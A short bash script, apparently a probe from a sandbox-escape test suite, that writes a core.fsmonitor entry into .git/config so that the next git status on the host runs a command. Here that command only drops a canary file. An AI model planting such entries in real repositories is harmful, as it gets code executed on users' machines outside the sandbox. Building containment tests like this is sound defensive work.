#!/usr/bin/env bash
# set core.fsmonitor / core.hooksPath in .git/config; the next git status on the host runs it
# class: persist
. "${0%/*}/common.sh"
need CANARY_DIR
[ -e .git ] || skip "project is no git repository"
git config core.fsmonitor ": > '$CANARY_DIR/pwned-fsmonitor'; false" 2>/dev/null || printf '[core]\n\tfsmonitor = ": > %s/pwned-fsmonitor; false"\n' "$CANARY_DIR" >> .git/config 2>/dev/null
cp .git/config .git/config.x 2>/dev/null && printf '[core]\n\tfsmonitor = ": > %s/pwned-fsmonitor; false"\n' "$CANARY_DIR" >> .git/config.x && mv -f .git/config.x .git/config 2>/dev/null; rm -f .git/config.x
echo "PHASE1: done"
